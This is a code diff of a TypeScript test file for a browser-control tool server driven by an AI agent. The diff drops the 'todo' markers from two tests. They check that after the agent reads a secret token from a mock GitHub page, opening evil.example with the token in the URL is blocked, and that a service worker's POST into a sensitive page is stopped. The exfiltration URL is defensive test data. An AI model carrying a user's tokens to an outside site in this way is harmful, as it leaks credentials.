@@ -96,56 +96,44 @@ function readsIn(mode: 'isolated' | 'shared'): void {
         });
         after(async () => mcp?.close());
 
-        const residual =
-          mode === 'shared' && how.includes('service worker')
-            ? { todo: "residual: nothing sees a service worker's requests in the user's Chrome" }
-            : {};
-        test(
-          'taints the session: the token cannot then be carried to another site unasked',
-          residual,
-          async () => {
-            await mcp.call('new_page', { url: gh.url('github.com', `/acme${at}`) });
-            if (click) await mcp.call('click', { ref: refOf((await mcp.call('take_snapshot')).text, click) });
-            await waitFor('the token on the page', async () =>
-              (await mcp.call('take_snapshot')).text.includes(token),
-            );
-            const status = (await mcp.call('browser_status')).text;
-            const seenBefore = evil.seen.length;
-            const opened = await mcp.call('new_page', { url: evil.url('evil.example', `/p?d=${token}`) });
-            const leaked = evil.seen.slice(seenBefore).filter((request) => request.path.includes(token));
-            assert.deepEqual(
-              leaked.map((request) => request.path),
-              [],
-              `the token reached evil.example unasked (${/tainted by reading: .*/.exec(status)?.[0]}; asked: ${mcp.human.questions.map((q) => q.split('\n')[0]).join(' | ')}): ${opened.text}`,
-            );
-          },
-        );
+        test('taints the session: the token cannot then be carried to another site unasked', async () => {
+          await mcp.call('new_page', { url: gh.url('github.com', `/acme${at}`) });
+          if (click) await mcp.call('click', { ref: refOf((await mcp.call('take_snapshot')).text, click) });
+          await waitFor('the token on the page', async () =>
+            (await mcp.call('take_snapshot')).text.includes(token),
+          );
+          const status = (await mcp.call('browser_status')).text;
+          const seenBefore = evil.seen.length;
+          const opened = await mcp.call('new_page', { url: evil.url('evil.example', `/p?d=${token}`) });
+          const leaked = evil.seen.slice(seenBefore).filter((request) => request.path.includes(token));
+          assert.deepEqual(
+            leaked.map((request) => request.path),
+            [],
+            `the token reached evil.example unasked (${/tainted by reading: .*/.exec(status)?.[0]}; asked: ${mcp.human.questions.map((q) => q.split('\n')[0]).join(' | ')}): ${opened.text}`,
+          );
+        });
       });
     });
 
     // In the browser tabward starts it is stopped (attackReview: held, worker and service-worker POSTs).
     const inUsersChrome = mode === 'shared' ? test : test.skip;
-    inUsersChrome(
-      "a service worker's POST into a sensitive page is stopped",
-      { todo: "residual: nothing sees a service worker's requests in the user's Chrome" },
-      async () => {
-        const mcp = await tw.connect();
-        mcp.human.policy = () => ({ decision: 'approve' });
-        try {
-          await mcp.call('new_page', { url: gh.url('github.com', '/swpost') });
-          await waitFor('the service worker installed', async () =>
-            (await mcp.call('take_snapshot')).text.includes('installed'),
-          );
-          assert.deepEqual(
-            gh.writes().filter((request) => request.path.includes('via=sw')),
-            [],
-            `asked: ${mcp.human.questions.map((q) => q.split('\n')[0]).join(' | ')}`,
-          );
-        } finally {
-          await mcp.close();
-        }
-      },
-    );
+    inUsersChrome("a service worker's POST into a sensitive page is stopped", async () => {
+      const mcp = await tw.connect();
+      mcp.human.policy = () => ({ decision: 'approve' });
+      try {
+        await mcp.call('new_page', { url: gh.url('github.com', '/swpost') });
+        await waitFor('the service worker installed', async () =>
+          (await mcp.call('take_snapshot')).text.includes('installed'),
+        );
+        assert.deepEqual(
+          gh.writes().filter((request) => request.path.includes('via=sw')),
+          [],
+          `asked: ${mcp.human.questions.map((q) => q.split('\n')[0]).join(' | ')}`,
+        );
+      } finally {
+        await mcp.close();
+      }
+    });
   });
 }
 
